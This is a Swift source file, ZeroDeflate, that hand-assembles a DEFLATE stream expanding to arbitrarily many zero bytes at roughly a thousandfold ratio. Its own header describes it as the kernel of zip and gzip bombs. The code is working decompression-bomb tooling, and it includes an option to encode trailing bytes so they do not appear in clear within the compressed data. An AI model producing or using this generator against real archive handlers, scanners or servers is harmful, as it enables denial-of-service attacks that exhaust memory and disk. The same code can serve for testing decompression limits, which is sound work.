// ZeroDeflate: a DEFLATE stream (RFC 1951) of any number of zero bytes, written by hand
// in one dynamic-Huffman block where "repeat the last 258 bytes" costs two bits, so
// 1 GB of zeros is about 1 MB of output made in milliseconds (zlib needs seconds to
// compress what it would have to read first). The kernel of the zip and gzip bombs.

/// Hand-made DEFLATE data for runs of zeros, and the stored-block header that quotes bytes.
enum ZeroDeflate {
    /// DEFLATE data decompressing to `count` (≥ 1) zero bytes, then `literals`: one
    /// dynamic-Huffman block of zeros, and when `literals` is not empty a last block
    /// with the fixed Huffman code (RFC 1951 3.2.6), so those bytes are not in the
    /// output in clear. Ends on a byte boundary.
    static func block(zeros count: Int, followedBy literals: [UInt8] = []) -> [UInt8] {
        precondition(count >= 1, "a zero-length run needs no block")
        let final = literals.isEmpty
        var out = BitStream()
        out.bits(final ? 1 : 0, 1)
        out.bits(2, 2)  // dynamic Huffman
        out.bits(286 - 257, 5)  // HLIT: literal/length codes 0...285
        out.bits(1 - 1, 5)  // HDIST: one distance code
        out.bits(18 - 4, 4)  // HCLEN: code length codes up to the one for length 1
        // Code length code lengths in RFC 1951 order 16 17 18 0 8 7 9 6 10 5 11 4 12 3 13 2 14 1:
        // symbol 18 (run of zeros) gets 1 bit, lengths 1 and 2 get 2 bits.
        let lengths: [UInt32: UInt32] = [18: 1, 1: 2, 2: 2]
        for symbol: UInt32 in [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1] {
            out.bits(lengths[symbol] ?? 0, 3)
        }
        // Canonical codes: 18 → 0, 1 → 10, 2 → 11.
        func zeroRun(_ run: UInt32) {
            out.code(0b0, 1)
            out.bits(run - 11, 7)
        }
        // The code lengths, in that code: literal 0 → 2 bits, 1...255 none, end of block
        // (256) → 2, 257...284 none, length 258 (285) → 1; distance code 0 (distance 1) → 1.
        out.code(0b11, 2)
        zeroRun(138)
        zeroRun(117)
        out.code(0b11, 2)
        zeroRun(28)
        out.code(0b10, 2)
        out.code(0b10, 2)
        // Canonical codes: 285 → 0, literal 0 → 10, end of block → 11; distance 1 → 0.
        out.code(0b10, 2)  // the first zero, as a literal
        let (matches, rest) = (count - 1).quotientAndRemainder(dividingBy: 258)
        out.zeroBits(2 * matches)  // each match: length 258 ("0"), distance 1 ("0")
        for _ in 0..<rest { out.code(0b10, 2) }
        out.code(0b11, 2)
        if !final {
            out.bits(1, 1)  // the last block
            out.bits(1, 2)  // fixed Huffman
            for byte in literals {
                if byte < 144 {
                    out.code(0x30 + UInt32(byte), 8)
                } else {
                    out.code(0x190 + UInt32(byte) - 144, 9)
                }
            }
            out.code(0, 7)  // end of block
        }
        return out.finish()
    }

    /// The header of a non-final stored block (RFC 1951 3.2.4) that copies the next
    /// `length` bytes of the stream verbatim, when the stream is at a byte boundary.
    static func storedHeader(length: Int) -> [UInt8] {
        precondition(length <= 0xFFFF, "a stored block holds at most 65535 bytes")
        let len = UInt16(length)
        return [0, UInt8(len & 0xFF), UInt8(len >> 8), UInt8(~len & 0xFF), UInt8(~len >> 8)]
    }
}

/// Bits packed least significant first, as DEFLATE reads them.
private struct BitStream {
    private(set) var bytes: [UInt8] = []
    private var pending: UInt32 = 0
    private var pendingCount: UInt32 = 0

    /// Appends the low `count` bits of `value`, least significant first (header fields, extra bits).
    mutating func bits(_ value: UInt32, _ count: UInt32) {
        for index in 0..<count { push((value >> index) & 1) }
    }

    /// Appends a Huffman code of `count` bits, most significant first.
    mutating func code(_ value: UInt32, _ count: UInt32) {
        for index in (0..<count).reversed() { push((value >> index) & 1) }
    }

    /// Appends `count` zero bits, whole bytes at a time once aligned.
    mutating func zeroBits(_ count: Int) {
        var left = count
        while left > 0 && pendingCount != 0 {
            push(0)
            left -= 1
        }
        bytes.append(contentsOf: repeatElement(0, count: left / 8))
        for _ in 0..<(left % 8) { push(0) }
    }

    /// The stream, padded with zero bits to a whole byte.
    mutating func finish() -> [UInt8] {
        if pendingCount > 0 {
            bytes.append(UInt8(pending))
            pending = 0
            pendingCount = 0
        }
        return bytes
    }

    private mutating func push(_ bit: UInt32) {
        pending |= bit << pendingCount
        pendingCount += 1
        if pendingCount == 8 {
            bytes.append(UInt8(pending))
            pending = 0
            pendingCount = 0
        }
    }
}
